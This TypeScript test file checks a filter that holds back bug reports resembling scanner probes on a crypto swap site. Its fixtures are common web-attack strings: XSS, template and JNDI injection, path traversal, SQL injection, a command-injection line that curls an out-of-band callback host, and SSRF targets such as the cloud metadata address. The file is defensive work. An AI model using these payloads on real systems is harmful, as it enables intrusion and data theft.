import { describe, expect, test } from 'vitest';
import type { ReportRequest } from '../../contract/v1/report-bug.ts';
import { growth } from '../../spec/fixtures/pace.ts';
import { probeSignals } from './probe-signals.ts';

const siteUrl = 'https://swap.example';
const report = (description: string, more: Partial<ReportRequest> = {}): ReportRequest => ({ description, type: 'bug', ...more });
const image = { name: 'a.png', type: 'image/png', content: 'aaaa', bytes: 3 } as const;

describe('a report that looks like a scanner probe', () => {
  test.each<ReportRequest>([
    report('<script>alert(1)</script>'),
    report('"><img src=x onerror=alert(1)>'),
    report('{{7*7}}'),
    report('$' + '{7*7}'),
    report('$' + '{jndi:ldap://x.example/a}'),
    report('../../../../etc/passwd'),
    report('..%2f and %2e%2e%2f%2e%2e%2fetc/passwd'),
    report("' OR 1=1 --"),
    report('1 UNION SELECT username, password FROM users'),
    report('test; curl http://abc.oast.fun/'),
    report('a | whoami'),
    report('Please see this page', { page: 'http://169.254.169.254/latest/meta-data/' }),
    report('x', { page: 'http://localhost:8080/admin' }),
    report('file:///etc/hostname and gopher://127.0.0.1:6379/_INFO'),
    report('Great. <script src=//x.example></script> {{constructor.constructor("x")()}}', { email: 'a@example.com' }),
  ])('is held for review: %j', (request) => {
    expect(probeSignals(request, siteUrl)).not.toEqual([]);
  });
});

describe('a report that a person wrote', () => {
  test.each<ReportRequest>([
    report('It is broken'),
    report('The quote page stays empty after I choose SOL.'),
    report('no offers', { page: '/sell-btc-buy-eth' }),
    report('Wrong fee', { page: 'https://swap.example/sell-btc?amount=1' }),
    report('Show $5 {like this}, please; it costs <b> too much'),
    report('The memo field shows <script> as text when I paste it into the destination, is that meant?', { email: 'a@example.com' }),
    report('I typed ../../etc/passwd in the address bar and got a page without style. See the image.', { attachment: image }),
    report(`I run the site behind a proxy. ${'It works, but the link to the docs goes to the wrong host. '.repeat(5)}`, {
      page: 'http://10.0.0.5/docs',
    }),
    report('Please select the union of both networks by default'),
  ])('is delivered: %j', (request) => {
    expect(probeSignals(request, siteUrl)).toEqual([]);
  });

  test('may name the service’s own address, even where it is a private host', () => {
    expect(probeSignals(report('No offers', { page: 'http://localhost:4321/' }), 'http://localhost:4321')).toEqual([]);
    expect(probeSignals(report('No offers', { page: 'http://localhost:4322/' }), 'http://localhost:4321')).not.toEqual([]);
  });
});

test('scans hostile text in time proportional to its length', async () => {
  const look = (size: number) => {
    for (const unit of ['{{', '${', "' or ", '../../', '<', 'a.'.repeat(5), '; ', '%2e'])
      probeSignals(report(unit.repeat(Math.floor(size / unit.length)), { page: `https://${'a.'.repeat(size / 10)}example` }), siteUrl);
  };
  expect(await growth(look, 2_500)).toBeLessThan(10);
});
